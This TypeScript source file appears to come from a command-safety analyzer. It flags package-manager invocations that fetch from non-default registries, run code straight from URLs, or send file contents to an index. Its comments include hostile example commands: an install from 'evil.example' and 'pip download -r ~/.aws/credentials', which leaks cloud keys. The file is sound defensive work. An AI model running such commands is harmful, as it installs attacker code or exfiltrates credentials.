// pip, uv, poetry, yarn, pnpm: the indexes and registries they download from (flags, config
// commands, environment) and URL or git specs — the same host rules as npm.
import { newFacts, type Facts } from '../facts.js';
import { addUrl, envValue, packageJsonSets } from './common.js';
import type { AnalyzerInput } from './types.js';

const URL_FLAGS = /^(--index-url|--extra-index-url|--index|--default-index|--find-links|--registry|--proxy|--url|--config\.(?:@[\w.-]+:)?registry)$/;
const SHORT_URL_FLAGS: Record<string, RegExp> = { pip: /^-[if]$/, pip3: /^-[if]$/, uv: /^-[if]$/ };
// Each tool's own variables (a local directory, e.g. PIP_FIND_LINKS=/opt/wheels, is not a host).
const ENV_URLS: Record<string, string[]> = {
  pip: ['PIP_INDEX_URL', 'PIP_EXTRA_INDEX_URL', 'PIP_FIND_LINKS', 'PIP_PROXY'],
  uv: ['UV_INDEX_URL', 'UV_EXTRA_INDEX_URL', 'UV_DEFAULT_INDEX', 'UV_INDEX', 'UV_FIND_LINKS', 'PIP_INDEX_URL', 'PIP_EXTRA_INDEX_URL'],
  poetry: [],
  yarn: ['YARN_NPM_REGISTRY_SERVER', 'YARN_REGISTRY', 'npm_config_registry', 'NPM_CONFIG_REGISTRY', 'COREPACK_NPM_REGISTRY'],
  pnpm: ['npm_config_registry', 'NPM_CONFIG_REGISTRY', 'COREPACK_NPM_REGISTRY'],
  bun: ['BUN_CONFIG_REGISTRY', 'npm_config_registry', 'NPM_CONFIG_REGISTRY'],
  corepack: ['COREPACK_NPM_REGISTRY', 'COREPACK_NPM_URL'],
  go: ['GOPROXY'],
};

const isUrlish = (s: string) => /^((git|hg|svn|bzr)\+)?(https?|ssh|git|svn):\/\//i.test(s);

/** Facts of one package-manager invocation. */
export function analyzePackages({ tool, args, env }: AnalyzerInput): Facts {
  const f = newFacts(tool);
  const pos = args.filter((a) => !a.startsWith('-'));
  f.subcommand = pos[0] === 'pip' || pos[0] === 'config' || pos[0] === 'source' ? pos.slice(0, 2).join(' ') : pos[0];
  // pnpm/yarn/bun pack --pack-destination DIR (yarn pack -o FILE): the tarball lands there.
  if (pos[0] === 'pack' || (pos[0] === 'pm' && pos[1] === 'pack')) {
    for (const [k, a] of args.entries()) {
      const v = /^(--pack-destination|--destination|-o|--out|--filename)$/.test(args[k - 1] ?? '') ? a : /^--(pack-destination|destination|out|filename)=/.test(a) ? a.slice(a.indexOf('=') + 1) : undefined;
      if (v) f.writes.push(/^(--pack-destination|--destination)/.test(args[k - 1] ?? a) ? `${v.replace(/\/+$/, '')}/` : v);
    }
  }
  // A global install (pnpm add -g, yarn global add, bun add -g): outside the project, on PATH.
  if (/^(pnpm|yarn|bun)$/.test(tool) && ((tool === 'yarn' && pos[0] === 'global' && /^(add|remove|upgrade)$/.test(pos[1] ?? '')) || (/^(add|install|i|remove|rm|update|up|link)$/.test(pos[0] ?? '') && args.some((a) => a === '-g' || a === '--global')))) {
    f.subcommand = 'install';
    f.tags.add('global');
  }
  // `deno run URL`, `uv run URL`, `pipx run URL`, `bun run URL`: downloaded code runs at once.
  if (/^(deno|uv|pipx|bun)$/.test(tool) && pos[0] === 'run' && pos.slice(1).some((p) => /^https?:\/\//i.test(p))) {
    f.tags.add('download-exec');
    f.notes.push(`${tool} run executes code straight from a URL`);
  }
  // pnpm pkg set / bun pm pkg set scripts.X=… (as npm pkg set): the script runs on the next install or run.
  const pkgSet = tool === 'pnpm' && pos[0] === 'pkg' && pos[1] === 'set' ? 2 : tool === 'bun' && pos[0] === 'pm' && pos[1] === 'pkg' && pos[2] === 'set' ? 3 : 0;
  if (pkgSet) packageJsonSets(f, pos.slice(pkgSet));
  const short = SHORT_URL_FLAGS[tool];
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    const eq = a.indexOf('=');
    const name = eq > 0 ? a.slice(0, eq) : a;
    // (-i/-f are index and find-links only for the verbs that fetch: `pip show -f` lists files;
    // find-links is a local directory unless it is a URL.)
    // (--trusted-host H only stops checking H's certificate: it sends nothing there by itself;
    // an index on H is its own option, judged as one.)
    if (name === '--trusted-host') {
      if (eq < 0) i++;
      continue;
    }
    const fetching = /^(install|download|wheel|lock|sync|add|pip|compile|index|tool|run)$/.test(f.subcommand?.split(' ')[0] ?? '') || f.subcommand === undefined;
    if ((URL_FLAGS.test(name) || (short && short.test(a) && fetching)) && !((name === '--find-links' || a === '-f') && !(eq > 0 ? a.slice(eq + 1) : args[i + 1] ?? '').includes('://'))) {
      const v = eq > 0 ? a.slice(eq + 1) : args[++i] ?? '';
      // --index name=url (uv) carries a URL after its name.
      const url = v.includes('=') && !v.includes('://') ? v.slice(v.indexOf('=') + 1) : v.includes('=') && /^[\w-]+=/.test(v) ? v.slice(v.indexOf('=') + 1) : v;
      if (url && !url.startsWith('.') && !url.startsWith('/')) addUrl(f, url, name === '--proxy' ? 'proxy' : 'registry', 'https');
    } else if (short && fetching && /^-[if]./.test(a) && !a.startsWith('--') && short.test(a.slice(0, 2)) && a.slice(2).includes('://')) {
      // (…with the value attached: pip install -ihttps://evil.example/simple x.)
      addUrl(f, a.slice(2), 'registry', 'https');
    } else if (isUrlish(a.replace(/^[\w.-]+\s*@\s*/, ''))) addUrl(f, a.replace(/^[\w.-]+\s*@\s*/, '').replace(/^(git|hg|svn|bzr)\+/i, ''), 'target');
  }
  // cargo --artifact-dir/--out-dir/--target-dir/--root DIR: builds and installs land in DIR.
  if (tool === 'cargo') {
    for (let i = 0; i < args.length; i++) {
      const m = /^(--artifact-dir|--out-dir|--target-dir|--root)(?:=(.*))?$/.exec(args[i]!);
      if (m) f.writes.push(m[2] ?? args[++i] ?? '');
    }
  }
  // pip install --target/--prefix/--root DIR: packages (and their scripts) land in DIR.
  if (/^pip/.test(tool) || tool === 'uv') {
    for (let i = 0; i < args.length; i++) {
      // (…-t with the directory attached too: optparse takes -tDIR.)
      const m = /^(--target|--prefix|--root|-t)(?:=(.*))?$/.exec(args[i]!) ?? /^-(t)(.+)$/.exec(args[i]!);
      if (m) f.writes.push(m[2] ?? args[++i] ?? '');
    }
  }
  // pip/uv -r FILE, -c FILE (requirements, constraints): each line of FILE is a name sent to the index, as a name given on
  // the command line is — `pip download -r ~/.aws/credentials` sends the keys to PyPI. (A name the line computes is left
  // to the judge of computed names; only a written-out file is read as sent.)
  if (/^pip/.test(tool) || tool === 'uv') {
    for (let i = 0; i < args.length; i++) {
      const m = /^(-r|--requirement|--requirements|-c|--constraint|--constraints|--override|--with-requirements|-b|--build-constraint)(?:=(.*))?$/.exec(args[i]!)
        ?? /^-([rc])(.+)$/.exec(args[i]!);
      if (!m) continue;
      const v = m[2] ?? args[++i] ?? '';
      if (v && !/[$`]/.test(v) && (m[1] !== '-b' || tool === 'uv')) f.sends.push(v);
    }
  }
  // bun build --outfile F (--outdir D: one NAME.js there per entry point), deno compile -o F: the bundle or binary lands there.
  if ((tool === 'bun' && pos[0] === 'build') || (tool === 'deno' && pos[0] === 'compile')) {
    const value = (re: RegExp) => args.flatMap((a, k) => (re.test(args[k - 1] ?? '') ? [a] : a.startsWith('--') && re.test(a.slice(0, a.indexOf('='))) ? [a.slice(a.indexOf('=') + 1)] : []));
    f.writes.push(...value(/^(--outfile|--output|-o)$/));
    const entries = pos.slice(1).filter((p) => /\.[cm]?[jt]sx?$/.test(p));
    for (const d of value(/^--outdir$/)) f.writes.push(...entries.map((e) => `${d.replace(/\/+$/, '')}/${e.replace(/^.*\//, '').replace(/\.[^.]+$/, '')}.js`));
  }
  // `pip config set global.index-url URL`, `yarn config set npmRegistryServer URL`, `poetry source add NAME URL`.
  const cs = pos.indexOf('set');
  if (pos[cs - 1] === 'config' && /registry|index|npmRegistryServer|proxy/i.test(pos[cs + 1] ?? '') && pos[cs + 2]) addUrl(f, pos[cs + 2]!, 'registry', 'https');
  if (pos[0] === 'source' && pos[1] === 'add' && pos[3]) addUrl(f, pos[3], 'registry', 'https');
  for (const e of ENV_URLS[tool.replace(/^pip[x3]?$/, 'pip')] ?? []) {
    const v = envValue(env, e);
    // (GOPROXY's default, proxy.golang.org, is what plain `go mod download` uses anyway.)
    if (v) for (const u of v.split(/[\s,|]+/)) if (u && !/^(\/|\.|~|file:|direct$|off$|https:\/\/proxy\.golang\.org\/?$)/.test(u)) addUrl(f, u, 'registry', 'https');
  }
  // go install/get/run MODULE@VERSION fetches through GOPROXY (proxy.golang.org by default), which
  // fetches from the host the module path names: that host chose the code. A host that is not one
  // of the long-standing module hosts is a package source off the allowlist (asked).
  if (tool === 'go' && /^(install|get|run|mod)$/.test(pos[0] ?? '')) {
    // (go mod edit -require=MOD@V / -replace=OLD=NEW@V names modules as option values.)
    const edits = args.flatMap((a) => /^-(?:require|replace|droprequire)=(.+)$/.exec(a)?.[1]?.split('=').slice(-1) ?? []);
    for (const m of [...pos.slice(pos[0] === 'mod' ? 2 : 1), ...edits]) {
      const host = /^([a-z0-9-]+(?:\.[a-z0-9-]+)+)\/[^@\s]*(?:@\S+)?$/i.exec(m)?.[1];
      if (host && !GO_MODULE_HOSTS.test(host.toLowerCase())) {
        addUrl(f, `https://${m.split('@')[0]}`, 'target');
        f.tags.add('package-source');
      }
    }
  }
  // A package source given as a URL that is not the registry: an OCI chart, a cargo index or git
  // repository, a Helm repository.
  // (helm repo index DIR --url URL writes the URL the charts will be served from into DIR/index.yaml: it connects nowhere.)
  const indexOnly = tool === 'helm' && pos[0] === 'repo' && pos[1] === 'index';
  if ((tool === 'helm' || tool === 'cargo') && /^(install|upgrade|pull|template|push|add|search|repo|dependency|show|fetch)$/.test(pos[0] ?? '') && !indexOnly) {
    for (let i = 0; i < args.length; i++) {
      const a = args[i]!;
      const m = /^(--index|--registry|--git|--repo)(?:=(.*))?$/.exec(a);
      const v = m ? m[2] ?? args[++i] ?? '' : a;
      const url = /^(?:sparse\+|registry\+|git\+)?((?:https?|oci|ssh|git):\/\/\S+)$/i.exec(v)?.[1];
      if (url) {
        addUrl(f, url, 'registry', 'https');
        f.tags.add('package-source');
      }
    }
  }
  return f;
}

/**
 * Go module hosts that serve one project's own modules (the Go project's, Google's, Kubernetes',
 * a few vanity hosts). Forges where anyone publishes (gitlab.com, bitbucket.org) are not here: like
 * npm's git specs, they are hosts the allowlist decides.
 */
const GO_MODULE_HOSTS = /^(github\.com|golang\.org|google\.golang\.org|cloud\.google\.com|go\.uber\.org|gopkg\.in|k8s\.io|sigs\.k8s\.io|go\.opentelemetry\.io|go\.etcd\.io|honnef\.co|mvdan\.cc|gotest\.tools|gocloud\.dev|go\.mongodb\.org|gorm\.io|entgo\.io|connectrpc\.com|filippo\.io|golang\.zx2c4\.com)$/;

/**
 * What composer is told that runs or connects later: `composer config [--json] scripts.NAME VALUE…` stores a script that
 * install, update, dump-autoload or run-script runs (its pre-/post- events without being named), as `npm pkg set
 * scripts.X=…` does; a repository's URL (config repositories.NAME TYPE URL, create-project --repository[-url] URL) is
 * where packages come from. (Composer keeps no analyzer of its own: its exec, run-script and global verbs are judged
 * by the line judge as wrappers.)
 */
export function composerSettings(args: readonly string[]): { runs: string[]; urls: string[] } {
  const runs: string[] = [];
  const urls: string[] = [];
  // (Options that take the next word, global and config's own: -d/--working-dir DIR, -f/--file FILE.)
  const valued = /^(-d|--working-dir|-f|--file)$/;
  const words = args.filter((a, k) => !a.startsWith('-') && !valued.test(args[k - 1] ?? ''));
  for (const [k, a] of args.entries()) {
    const m = /^--(repository|repository-url)(?:=(.*))?$/.exec(a);
    const v = m ? m[2] ?? args[k + 1] : undefined;
    if (v && /^[a-z][\w+.-]*:\/\//i.test(v)) urls.push(v);
  }
  if (words[0] === 'config' && /^scripts\.[^.]+$/.test(words[1] ?? '')) {
    for (const v of words.slice(2)) {
      let list: unknown = v;
      try {
        if (/^\s*[[{"]/.test(v)) list = JSON.parse(v);
      } catch {
        // (Not JSON: the command line it is.)
      }
      for (const c of Array.isArray(list) ? list : [list]) if (typeof c === 'string') runs.push(c);
    }
  }
  if (words[0] === 'config' && /^repositories\./.test(words[1] ?? '')) urls.push(...words.slice(2).filter((w) => /^[a-z][\w+.-]*:\/\//i.test(w)));
  return { runs, urls };
}
